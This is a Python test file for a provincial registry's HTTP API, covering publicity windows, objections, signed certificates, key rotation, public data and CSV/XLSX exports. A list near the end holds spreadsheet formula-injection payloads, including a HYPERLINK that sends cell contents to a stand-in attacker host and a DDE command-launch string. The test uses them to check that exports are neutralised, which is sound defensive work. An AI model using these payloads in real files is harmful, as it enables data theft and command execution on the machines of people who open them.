"""The registry's HTTP API over in-memory fakes: publicity, objections, closing, certificates, lifecycle,
public data and exports."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import AsyncIterator, Callable
from datetime import UTC, datetime
from functools import partial
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey, Ed25519PublicKey
from openpyxl import load_workbook
from zhongshi_contracts.dossier import Dossier
from zhongshi_contracts.events import ApplicationWithdrawn
from zhongshi_contracts.review import Decision
from zhongshi_registry import api_exports, api_lifecycle, api_objections, api_public, api_publicity, handlers
from zhongshi_registry.certificates import Signer
from zhongshi_registry.entries import Thresholds
from zhongshi_registry.repository import RegistryRepository
from zhongshi_registry.settings import RegistrySettings
from zhongshi_registry.use_cases import Deps
from zhongshi_runtime.auth import Role
from zhongshi_runtime.testing import InMemoryUnitOfWork, api_app

from .registry_fixtures import Client, Clock, decision_of, profile_of

FRIDAY = datetime(2026, 11, 27, 2, 0, tzinfo=UTC)  # opens Monday 2026-11-30, 5 working days → 2026-12-04
AFTER = datetime(2026, 12, 7, 2, 0, tzinfo=UTC)


@pytest.fixture
async def client(tmp_path: Path, make_dossier: Callable[..., Dossier]) -> AsyncIterator[Client]:
    repo, uow, clock = RegistryRepository.memory(), InMemoryUnitOfWork(), Clock(FRIDAY)
    signers = [Signer(Ed25519PrivateKey.generate())]  # a test rotates the key by appending its successor
    settings = RegistrySettings(certificate_formats={"R2": "HB-PILOT-{year}-{seq:03d}"})
    app = api_app(tmp_path, *(m.router for m in (api_public, api_publicity, api_objections, api_lifecycle,
                                                 api_exports)))
    app.state.deps = Deps.build(repo, uow, clock, settings, lambda: signers[-1], Thresholds())
    for i, kind in enumerate((Decision.ACCREDIT, Decision.ACCREDIT, Decision.CULTIVATE, Decision.DECLINE)):
        dossier = make_dossier(i)
        await repo.record_decision(decision_of(dossier, f"A{i}", kind, i + 1))
        await repo.keep_profile(profile_of(dossier, f"A{i}"))
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://t") as http:
        c = Client(tmp_path, http, repo, uow, clock)
        c.signers = signers  # type: ignore[attr-defined]
        yield c


CITIZEN = "91420100MA4K000001"  # an objector logged in (any role: a person identified by the province's login)
OBJECTION = {"application_id": "A1", "name": "张三", "contact": "13800000000",
             "grounds": "该平台申报的设备原值与实际不符，请核实。", "evidence": ["现场照片"]}


async def file_objection(client: Client, body: dict[str, Any]) -> httpx.Response:
    return await client.as_(Role.APPLICANT, CITIZEN, "POST", "/api/v1/publicity/R1/objections", json=body)


async def open_and_object(client: Client) -> str:
    r = await client.province("POST", "/api/v1/rounds/R1/publicity", json={})
    assert r.status_code == 200, r.text
    client.clock.now = datetime(2026, 12, 2, 2, 0, tzinfo=UTC)
    r = await file_objection(client, OBJECTION)
    assert r.status_code == 201, r.text
    return str(r.json()["id"])


async def close(client: Client) -> dict[str, Any]:
    client.clock.now = AFTER
    r = await client.province("POST", "/api/v1/rounds/R1/publicity/close")
    assert r.status_code == 200, r.text
    return dict(r.json())


async def test_publicity_opens_on_the_next_working_day_and_lists_no_declined_application(client: Client) -> None:
    r = await client.province("POST", "/api/v1/rounds/R1/publicity", json={})
    body = r.json()
    assert (body["starts_on"], body["ends_on"]) == ("2026-11-30", "2026-12-04")
    assert [i["application_id"] for i in body["items"]] == ["A0", "A1", "A2"]
    assert body["items"][0]["platform_type"] and body["items"][0]["clusters"]
    assert client.published("pilot.publicity.opened")[0].ends_on.isoformat() == "2026-12-04"
    assert (await client.province("POST", "/api/v1/rounds/R1/publicity", json={})).status_code == 409
    assert (await client.http.post("/api/v1/rounds/R1/publicity", json={})).status_code == 401


async def test_an_application_withdrawn_after_its_decision_is_not_publicised(client: Client) -> None:
    """Intake accepts a withdrawal made before it heard of the decision; the registry honours it."""
    withdrawn = ApplicationWithdrawn(application_id="A1", round_id="R1", revision=1, reason="",
                                     withdrawn_at=FRIDAY, applicant_credit_code="c", region_code="420111",
                                     city_code="420100")
    await client.repo.fold_candidacy("A1", partial(handlers.withdrawal_of, withdrawn))
    r = await client.province("POST", "/api/v1/rounds/R1/publicity", json={})
    assert [i["application_id"] for i in r.json()["items"]] == ["A0", "A2"]


async def test_a_window_reaching_an_uncovered_year_is_refused_with_409(client: Client) -> None:
    client.clock.now = datetime(2026, 12, 28, 2, 0, tzinfo=UTC)
    r = await client.province("POST", "/api/v1/rounds/R1/publicity", json={"working_days": 5})
    assert r.status_code == 409 and "2027" in r.json()["detail"] and "节假日数据尚未覆盖" in r.json()["detail"]
    assert await client.repo.publicity.get("R1") is None


NOTICE_2027 = {"holidays": ["2027-01-01", "2027-01-02", "2027-01-03"], "working_days": [],
               "source": "国务院办公厅关于2027年部分节假日安排的通知"}


async def test_once_the_province_enters_the_years_schedule_the_window_counts_its_holidays(client: Client) -> None:
    assert (await client.province("GET", "/api/v1/calendar/2027")).status_code == 404
    r = await client.province("PUT", "/api/v1/calendar/2027", json=NOTICE_2027)
    assert r.status_code == 200, r.text
    assert r.json()["year"] == 2027 and r.json()["entered_at"]
    [entered] = client.uow.audit
    assert (entered.action, entered.target_id, entered.reason) == ("calendar.enter", "2027", NOTICE_2027["source"])
    shown = (await client.province("GET", "/api/v1/calendar/2027")).json()
    assert shown["source"] == NOTICE_2027["source"] and shown["entered"]["holidays"] == NOTICE_2027["holidays"]
    client.clock.now = datetime(2026, 12, 28, 2, 0, tzinfo=UTC)  # Monday: opens Tuesday 29 December
    r = await client.province("POST", "/api/v1/rounds/R1/publicity", json={"working_days": 5})
    assert r.status_code == 200, r.text
    assert (r.json()["starts_on"], r.json()["ends_on"]) == ("2026-12-29", "2027-01-05")  # 1–3 January off


async def test_a_schedule_is_refused_for_an_installed_year_or_with_dates_of_another_year(client: Client) -> None:
    r = await client.province("PUT", "/api/v1/calendar/2026", json=NOTICE_2027)
    assert r.status_code == 409 and "chinesecalendar" in r.json()["detail"]
    r = await client.province("PUT", "/api/v1/calendar/2028", json=NOTICE_2027)
    assert r.status_code == 422 and {tuple(e["loc"]) for e in r.json()["detail"]} == {
        ("body", "holidays", 0), ("body", "holidays", 1), ("body", "holidays", 2)}
    weekday = {**NOTICE_2027, "working_days": ["2027-01-04"]}
    r = await client.province("PUT", "/api/v1/calendar/2027", json=weekday)
    assert r.status_code == 422 and r.json()["detail"][0]["loc"] == ["body", "working_days"]
    assert await client.repo.holidays.find() == [] and client.uow.audit == []
    assert (await client.province("GET", "/api/v1/calendar/2026")).json()["source"].startswith("chinesecalendar")


async def test_an_objection_outside_the_window_is_refused_with_a_clear_message(client: Client) -> None:
    assert (await file_objection(client, OBJECTION)).status_code == 409
    await client.province("POST", "/api/v1/rounds/R1/publicity", json={})
    r = await file_objection(client, OBJECTION)  # Friday: opens Monday
    assert r.status_code == 409 and "2026-11-30 至 2026-12-04" in r.json()["detail"]
    client.clock.now = AFTER
    assert (await file_objection(client, OBJECTION)).status_code == 409
    r = await file_objection(client, {**OBJECTION, "name": ""})
    assert r.status_code == 422 and r.json()["detail"][0]["loc"][-1] == "name"


async def test_closing_is_refused_early_or_with_pending_objections(client: Client) -> None:
    objection_id = await open_and_object(client)
    r = await client.province("POST", "/api/v1/rounds/R1/publicity/close")
    assert r.status_code == 409 and "2026-12-04" in r.json()["detail"]
    client.clock.now = AFTER
    r = await client.province("POST", "/api/v1/rounds/R1/publicity/close")
    assert r.status_code == 409 and objection_id in r.json()["detail"]


async def test_an_upheld_objection_declines_the_application_when_publicity_closes(client: Client) -> None:
    objection_id = await open_and_object(client)
    r = await client.province("POST", f"/api/v1/objections/{objection_id}/resolve",
                              json={"upheld": True, "reason": "经核实，设备原值虚报"})
    assert r.status_code == 200 and r.json()["status"] == "upheld"
    body = await close(client)
    assert {d["application_id"]: d["decision"] for d in body["decisions"]} == {
        "A0": "accredit", "A1": "decline", "A2": "cultivate"}
    assert body["entries"] == ["P-A0", "P-A2"]
    [accredited] = client.published("pilot.platform.accredited")
    assert accredited.certificate_no == "鄂中试〔2026〕001号" and accredited.accredited_on.isoformat() == "2026-12-07"
    assert [e.platform_id for e in client.published("pilot.platform.cultivation-listed")] == ["P-A2"]
    closed = client.published("pilot.publicity.closed")[0]
    assert closed.objections[0].upheld and "张三" not in closed.model_dump_json()
    opened, filed, resolved, closing = client.uow.audit
    assert [r.action for r in client.uow.audit] == ["publicity.open", "objection.file", "objection.resolve",
                                                    "publicity.close"]
    assert opened.application_ids == ["A0", "A1", "A2"] and closing.application_ids == ["A0", "A1", "A2"]
    assert (filed.actor_subject, filed.target_id, filed.application_ids) == (
        f"applicant:{CITIZEN}", objection_id, ["A1"])  # the logged-in objector, never the name or contact typed
    assert "张三" not in filed.model_dump_json() and "13800000000" not in filed.model_dump_json()
    assert (resolved.actor_subject, resolved.reason, resolved.outcome, resolved.application_ids) == (
        "province_official:42", "经核实，设备原值虚报", "成立", ["A1"])


async def test_concurrent_resolutions_and_closings_take_effect_once(client: Client) -> None:
    objection_id = await open_and_object(client)
    path = f"/api/v1/objections/{objection_id}/resolve"
    answers = await asyncio.gather(*(client.province("POST", path, json={"upheld": upheld, "reason": "经核实处理"})
                                     for upheld in (True, False)))
    assert sorted(r.status_code for r in answers) == [200, 409]
    [resolved] = client.published("pilot.publicity.objection-resolved")
    client.clock.now = AFTER
    answers = await asyncio.gather(*(client.province("POST", "/api/v1/rounds/R1/publicity/close") for _ in range(2)))
    assert sorted(r.status_code for r in answers) == [200, 409]
    assert len(client.published("pilot.publicity.closed")) == 1
    numbers = [e.certificate_no for e in client.published("pilot.platform.accredited")]
    accredited = 1 if resolved.upheld else 2  # either resolution may win its race; an upheld one withdraws A1
    assert len(numbers) == len(set(numbers)) == accredited
    assert [r.action for r in client.uow.audit] == ["publicity.open", "objection.file", "objection.resolve",
                                                    "publicity.close"]  # the losers of each race: no record


async def test_certificates_verify_as_valid_then_tampered_then_revoked(client: Client) -> None:
    await client.province("POST", "/api/v1/rounds/R1/publicity", json={})
    await close(client)
    number = "鄂中试〔2026〕002号"
    signed = (await client.http.get(f"/api/v1/public/certificates/{number}")).json()
    assert signed["document"]["platform_id"] == "P-A1"

    async def verify(body: dict[str, Any]) -> str:
        return str((await client.http.post("/api/v1/public/certificates/verify", json=body)).json()["result"])

    assert await verify(signed) == "valid"
    assert await verify({**signed, "document": {**signed["document"], "platform_name": "冒名平台"}}) == "invalid"
    unknown = {**signed["document"], "certificate_no": "鄂中试〔2026〕999号"}
    assert await verify({**signed, "document": unknown}) == "unknown"
    r = await client.province("POST", "/api/v1/platforms/P-A1/revoke", json={"reason": "申请主体主动申请撤销"})
    assert r.status_code == 200 and r.json()["status"] == "revoked"
    assert await verify(signed) == "revoked"
    revoked = client.uow.audit[-1]  # verifying changes nothing and is not audited
    assert [r.action for r in client.uow.audit] == ["publicity.open", "publicity.close", "platform.revoke"]
    assert (revoked.target_id, revoked.application_ids, revoked.reason, revoked.outcome) == (
        "P-A1", ["A1"], "申请主体主动申请撤销", "已撤销")
    assert client.published("pilot.platform.revoked")[0].certificate_no == number
    copy = (await client.http.get(f"/api/v1/public/certificates/{number}")).json()
    assert copy["document"]["status"] == "revoked" and await verify(copy) == "revoked"


def qr_url(pdf: bytes) -> str:
    """The text of the QR code printed on the PDF's first page."""
    import io

    import zxingcpp
    from PIL import Image
    from pypdf import PdfReader

    [picture] = PdfReader(io.BytesIO(pdf)).pages[0].images
    [code] = zxingcpp.read_barcodes(Image.open(io.BytesIO(picture.data)))
    return str(code.text)


async def scan(client: Client, number: str) -> dict[str, Any]:
    """Fetch the certificate PDF, read its QR code and open the URL it leads to."""
    from urllib.parse import urlsplit

    r = await client.http.get(f"/api/v1/public/certificates/{number}.pdf")
    assert r.status_code == 200 and r.headers["content-type"] == "application/pdf"
    url = urlsplit(qr_url(r.content))
    assert url.path == "/api/v1/public/certificate-verification"
    return dict((await client.http.get(f"{url.path}?{url.query}")).json())


async def test_the_certificate_pdf_carries_its_fields_and_a_qr_code_that_verifies(client: Client) -> None:
    import io

    from pypdf import PdfReader

    await client.province("POST", "/api/v1/rounds/R1/publicity", json={})
    await close(client)
    number = "鄂中试〔2026〕002号"
    pdf = (await client.http.get(f"/api/v1/public/certificates/{number}.pdf")).content
    text = PdfReader(io.BytesIO(pdf)).pages[0].extract_text()
    assert number in text and "认 定 证 书" in text and "有效" in text
    scanned = await scan(client, number)
    assert scanned["result"] == "valid" and scanned["document"]["certificate_no"] == number
    assert scanned["document"]["key_id"] == client.signers[0].key_id  # type: ignore[attr-defined]
    r = await client.province("POST", "/api/v1/platforms/P-A1/revoke", json={"reason": "申请主体主动申请撤销"})
    assert r.status_code == 200
    assert (await scan(client, number))["result"] == "revoked"


async def test_the_qr_payload_verifies_offline_with_the_published_key(client: Client) -> None:
    import json
    from urllib.parse import parse_qs, urlsplit

    from cryptography.hazmat.primitives.serialization import load_pem_public_key
    from zhongshi_registry.certificate_pdf import from_b64url

    await client.province("POST", "/api/v1/rounds/R1/publicity", json={})
    await close(client)
    pdf = (await client.http.get("/api/v1/public/certificates/鄂中试〔2026〕002号.pdf")).content
    query = parse_qs(urlsplit(qr_url(pdf)).query)
    payload, signature = from_b64url(query["c"][0]), from_b64url(query["s"][0])
    keys = (await client.http.get("/api/v1/public/certificates-key")).json()["keys"]
    document = json.loads(payload)
    [key] = [k for k in keys if k["key_id"] == document["key_id"]]
    public_key = load_pem_public_key(key["public_key_pem"].encode())
    assert isinstance(public_key, Ed25519PublicKey)
    public_key.verify(signature, payload)
    assert document["status"] == "valid" and document["certificate_no"] == "鄂中试〔2026〕002号"


async def test_an_old_certificate_still_verifies_after_a_key_rotation(client: Client) -> None:
    await client.province("POST", "/api/v1/rounds/R1/publicity", json={})
    await close(client)
    number = "鄂中试〔2026〕002号"
    old_pdf = (await client.http.get(f"/api/v1/public/certificates/{number}.pdf")).content
    old = client.signers[0]  # type: ignore[attr-defined]
    client.signers.append(Signer(Ed25519PrivateKey.generate(), retired=[old.public_key]))  # type: ignore[attr-defined]
    from urllib.parse import urlsplit

    url = urlsplit(qr_url(old_pdf))
    scanned = (await client.http.get(f"{url.path}?{url.query}")).json()
    assert scanned["result"] == "valid" and scanned["document"]["key_id"] == old.key_id
    fresh = await scan(client, number)
    assert fresh["result"] == "valid" and fresh["document"]["key_id"] != old.key_id
    published = (await client.http.get("/api/v1/public/certificates-key")).json()["keys"]
    assert [k["current"] for k in published] == [False, True]
    forgotten = Signer(Ed25519PrivateKey.generate())  # a rotation that dropped the old public key
    client.signers.append(forgotten)  # type: ignore[attr-defined]
    assert (await client.http.get(f"{url.path}?{url.query}")).json()["result"] == "invalid"


async def test_a_garbled_qr_payload_is_refused_naming_the_parameter(client: Client) -> None:
    r = await client.http.get("/api/v1/public/certificate-verification", params={"c": "not-json", "s": "x"})
    assert r.status_code == 422 and r.json()["detail"][0]["loc"] == ["query", "c"]


async def test_the_public_api_never_returns_objectors_or_contacts(
    client: Client, make_dossier: Callable[..., Dossier]
) -> None:
    await open_and_object(client)
    publicity = (await client.http.get("/api/v1/public/publicity/R1")).text
    assert "objections" in publicity and "has_grounds" in publicity
    await client.province("POST", f"/api/v1/objections/{(await client.repo.objections.find())[0].id}/resolve",
                          json={"upheld": False, "reason": "理由不成立"})
    await close(client)
    texts = [publicity, (await client.http.get("/api/v1/public/platforms")).text,
             (await client.http.get("/api/v1/public/platforms/P-A0")).text,
             (await client.http.get("/api/v1/public/stats")).text,
             *[json.dumps(e.model_dump(mode="json", exclude={"reply_to"}), ensure_ascii=False)
               for e in client.uow.published]]
    [resolved] = client.published("pilot.publicity.objection-resolved")
    assert resolved.reply_to == "13800000000"  # only so notify can answer the objector; webhooks drop it
    contacts = [make_dossier(i).applicant.contact for i in range(3)]
    secrets = ["张三", "13800000000", "设备原值与实际不符", "现场照片",
               *[c.phone for c in contacts], *[c.email for c in contacts], *[c.name for c in contacts]]
    for text in texts:
        assert not [s for s in secrets if s in text]


async def test_the_public_list_filters_and_pages_and_stats_count_progress(
    client: Client, make_dossier: Callable[..., Dossier]
) -> None:
    await client.province("POST", "/api/v1/rounds/R1/publicity", json={})
    await close(client)
    everything = (await client.http.get("/api/v1/public/platforms", params={"limit": 2})).json()
    assert everything["total"] == 3 and len(everything["items"]) == 2
    a0 = make_dossier(0)
    r = (await client.http.get("/api/v1/public/platforms", params={
        "cluster": a0.platform.clusters[0], "type": a0.platform.platform_type, "status": "accredited",
        "q": a0.platform.name[:4], "service_kind": a0.platform.service_kinds[0]})).json()
    assert "P-A0" in [i["id"] for i in r["items"]]
    cultivation = (await client.http.get("/api/v1/public/platforms", params={"status": "cultivation"})).json()
    assert [i["id"] for i in cultivation["items"]] == ["P-A2"]
    stats = (await client.http.get("/api/v1/public/stats")).json()
    assert stats["accredited"]["provincial"] == 2 and stats["accredited"]["cultivation"] == 1
    assert stats["targets"] == {"provincial": 200, "national": 1, "by": 2030}
    assert sum(c["accredited"] for c in stats["by_city"]) == 2 and stats["by_year"] == {"2026": 2}
    assert len(stats["candidates_by_city"]) == 17 and stats["by_type"] and stats["by_tier"]


async def test_annual_reports_are_checked_and_the_province_warns_and_recommends(client: Client) -> None:
    await client.province("POST", "/api/v1/rounds/R1/publicity", json={})
    await close(client)
    entry = await client.repo.entries.get("P-A0")
    assert entry is not None
    report = {"year": 2026, "service_projects": 12, "clients_served": 30, "service_revenue": "4000000.00",
              "technology_transfers": 1, "equipment_value": "12000000", "staff": 9}
    assert (await client.as_(Role.APPLICANT, "91420100XXXXXXXXXX", "POST", "/api/v1/platforms/P-A0/annual-reports",
                             json=report)).status_code == 403
    r = await client.as_(Role.APPLICANT, entry.applicant_credit_code, "POST",
                         "/api/v1/platforms/P-A0/annual-reports", json=report)
    assert r.status_code == 201 and len(r.json()["shortfalls"]) == 2
    r = await client.province("POST", "/api/v1/platforms/P-A0/evaluations/2026", json={"standing": "warning",
                              "reason": "人才与服务成效不达标"})
    assert r.status_code == 422 and r.json()["detail"][0]["loc"][-1] == "rectify_by"
    r = await client.province("POST", "/api/v1/platforms/P-A0/evaluations/2026", json={
        "standing": "warning", "reason": "人才与服务成效不达标", "rectify_by": "2027-06-30"})
    assert r.json()["status"] == "warning" and client.published("pilot.platform.warned")
    dims = {d: {"score": "8", "notes": "良好"} for d in ("战略定位", "基础能力", "技术优势", "服务成效", "运行机制")}
    r = await client.province("POST", "/api/v1/platforms/P-A0/national-recommendation", json={"profile": dims})
    assert r.status_code == 422 and r.json()["detail"][0]["loc"][-1] == "profile"
    assert "未来潜力" in r.json()["detail"][0]["msg"]
    dims["未来潜力"] = {"score": "9", "notes": "潜力大"}
    assert (await client.province("POST", "/api/v1/platforms/P-A0/national-recommendation",
                                  json={"profile": dims})).status_code == 200
    r = await client.province("PUT", "/api/v1/platforms/P-A0/national-recommendation/outcome",
                              json={"outcome": "upgraded"})
    assert r.json()["national"]["outcome"] == "upgraded"
    assert (await client.http.get("/api/v1/public/stats")).json()["accredited"]["national"] == 1
    assert [e.outcome for e in client.published("pilot.platform.national-recommended")] == ["pending", "upgraded"]
    trail = client.uow.audit[2:]  # after opening and closing publicity; the refusals above left nothing
    assert [(r.action, r.actor_role) for r in trail] == [
        ("annual_report.file", "applicant"), ("platform.evaluate", "province_official"),
        ("platform.recommend_national", "province_official"), ("platform.national_outcome", "province_official")]
    assert trail[0].actor_organisation == entry.applicant_credit_code and trail[1].reason == "人才与服务成效不达标"
    assert {r.target_id for r in trail} == {"P-A0"} and {tuple(r.application_ids) for r in trail} == {("A0",)}


async def test_a_cultivation_object_accredited_in_a_later_round_links_to_its_entry(
        client: Client, make_dossier: Callable[..., Dossier]) -> None:
    await client.province("POST", "/api/v1/rounds/R1/publicity", json={})
    await close(client)
    later = make_dossier(2)
    await client.repo.decisions.put("B2", decision_of(later, "B2", Decision.ACCREDIT, 1, round_id="R2"))
    client.clock.now = datetime(2026, 12, 8, 2, 0, tzinfo=UTC)
    assert (await client.province("POST", "/api/v1/rounds/R2/publicity", json={})).status_code == 200
    client.clock.now = datetime(2026, 12, 16, 2, 0, tzinfo=UTC)
    assert (await client.province("POST", "/api/v1/rounds/R2/publicity/close")).status_code == 200
    new, old = await client.repo.entries.get("P-B2"), await client.repo.entries.get("P-A2")
    assert new and old and new.previous_entry_id == "P-A2" and old.next_entry_id == "P-B2"
    assert new.certificate_no == "HB-PILOT-2026-003" and old.status == "upgraded"


async def test_exports_have_chinese_headers_and_a_city_sees_only_its_own(client: Client) -> None:
    await client.province("POST", "/api/v1/rounds/R1/publicity", json={})
    await close(client)
    csv_text = (await client.province("GET", "/api/v1/exports/platforms.csv")).content.decode("utf-8-sig")
    assert csv_text.startswith("登记编号,平台名称,申报主体") and csv_text.count("\n") == 4
    entry = await client.repo.entries.get("P-A0")
    assert entry is not None
    own = (await client.as_(Role.CITY_OFFICIAL, entry.city_code, "GET", "/api/v1/exports/platforms.csv")).content
    mine = [e for e in await client.repo.entries.find() if e.city_code == entry.city_code]
    assert own.decode("utf-8-sig").count("\n") == 1 + len(mine)
    r = await client.province("GET", "/api/v1/exports/rounds/R1/results.xlsx")
    sheet = load_workbook(io.BytesIO(r.content)).active
    assert sheet is not None and sheet["A1"].value == "申报编号" and sheet.max_row == 5
    assert (await client.province("GET", "/api/v1/exports/annual-reports/2026.csv")).status_code == 200
    assert (await client.province("GET", "/api/v1/exports/platforms.pdf")).status_code == 404
    assert (await client.as_(Role.APPLICANT, "x", "GET", "/api/v1/exports/platforms.csv")).status_code == 403


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


async def test_exports_neutralise_formulas_in_applicant_text(
    client: Client, make_dossier: Callable[..., Dossier]
) -> None:
    for i, text in enumerate(FORMULAS):
        record = decision_of(make_dossier(), f"F{i}", Decision.ACCREDIT, 10 + i)
        await client.repo.decisions.put(f"F{i}", record.model_copy(update={"platform_name": text,
                                                                            "applicant_name": text}))
    csv_rows = list(csv.reader(io.StringIO((await client.province(
        "GET", "/api/v1/exports/rounds/R1/results.csv")).content.decode("utf-8-sig"))))
    book = load_workbook(io.BytesIO((await client.province("GET", "/api/v1/exports/rounds/R1/results.xlsx")).content))
    xlsx_rows = [[c.value for c in row] for row in book.active.iter_rows()]
    for rows in (csv_rows, xlsx_rows):
        names = [row[1].replace("\r", "\n") for row in rows if row[0].startswith("F")]  # XML reads CR as LF
        assert names == ["'" + t.replace("\r", "\n") for t in FORMULAS]  # kept, inert: shown, never run
        assert all(not str(cell).startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
                   if cell is not None)
    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)


@pytest.mark.parametrize("round_id", ["R[1]", "R:1", "R*?\\1", "第一批", 'R"1'])
async def test_an_export_of_a_round_with_odd_characters_in_its_id_is_no_500(client: Client, round_id: str) -> None:
    for fmt in ("csv", "xlsx"):
        r = await client.province("GET", f"/api/v1/exports/rounds/{quote(round_id, safe='')}/results.{fmt}")
        assert r.status_code == 200, r.text
        assert "attachment" in r.headers["content-disposition"]
